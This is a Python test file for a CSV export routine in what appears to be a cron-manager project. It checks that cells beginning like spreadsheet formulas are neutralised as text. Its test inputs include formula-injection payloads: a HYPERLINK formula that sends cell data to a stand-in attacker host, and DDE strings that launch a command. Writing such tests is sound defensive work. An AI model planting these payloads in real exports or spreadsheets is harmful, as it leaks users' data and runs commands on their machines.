"""No cell of an export becomes a formula, and every cell can be read again."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cron_manager.edge.csv_text import csv_text


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        '"=1+1',
        "'=1+1",
        ";=1+1",
        ",=1+1",
        "\ufeff=1+1",
        "\u00a0=1+1",
        "＝1＋1",  # noqa: RUF001
    ],
)
def test_what_begins_like_a_formula_is_made_text(cell):
    _, (written,) = read(csv_text(["a"], [[cell]]))

    assert written == f"'{cell}"


@pytest.mark.parametrize("cell", ["plain", "2026-11-21T12:00:00.000Z", "a=b", "usr_1", "", "a,b", 'say "hi"', "x\ny"])
def test_everything_else_stays_as_it_is(cell):
    assert read(csv_text(["a"], [[cell]]))[1] == [cell]


def test_nothing_is_an_empty_cell_and_numbers_are_written_out():
    assert csv_text(["a", "b"], [[None, 200]]) == '"a","b"\r\n"","200"\r\n'


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_no_cell_escapes_its_place(rows):
    found = read(csv_text(["a", "b"], rows))

    assert [[cell.removeprefix("'") for cell in row] for row in found[1:]] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for row in found for cell in row)
